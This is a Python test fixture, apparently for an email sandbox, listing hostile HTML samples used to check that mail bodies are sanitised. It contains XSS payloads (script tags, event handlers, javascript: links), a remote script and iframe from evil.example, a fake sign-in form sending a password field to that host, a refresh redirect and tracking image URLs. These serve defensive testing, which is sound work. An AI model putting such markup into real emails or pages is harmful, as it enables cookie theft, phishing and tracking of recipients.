"""HTML that tries to do what mail must not do.

Graph removes such things unless told otherwise; the sandbox leaves them in,
so that nobody comes to rely on Graph for it.
"""

__all__ = ["HOSTILE"]

HOSTILE: tuple[tuple[str, str], ...] = (
    (
        "Script in the body",
        (
            "<p>Hello<script>alert(document.cookie)</script></p>"
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"
        ),
    ),
    (
        "Handlers and strange links",
        (
            '<img src=x onerror="alert(1)"><svg/onload=alert(2)>'
            '<a href="javascript:alert(3)">click</a>'
            '<a href="JaVaScRiPt&#58;alert(4)">click</a>'
            '<a href="data:text/html,<script>alert(5)</script>">click</a>'
        ),
    ),
    (
        "Frames and forms",
        (
            '<iframe src="https://evil.example"></iframe><base href="//evil">'
            '<form action="https://evil.example"><input name="password">'
            '<button>Sign in</button></form><meta http-equiv="refresh" '
            'content="0;url=https://evil.example"><object data="x"></object>'
        ),
    ),
    (
        "Styles that reach out",
        (
            "<style>body{background:url(https://evil.example/open.gif)}"
            "</style><p style=\"background:url('https://evil.example/p')\">Hi"
            "</p><link rel=stylesheet href=https://evil.example/a.css>"
        ),
    ),
    (
        "Broken markup",
        (
            "<div><p>Never <b>closed<table><tr><td>cell</div></i>"
            "<!-- comment <script> --><![if !mso]>text<![endif]> &amp &lt tail"
        ),
    ),
)
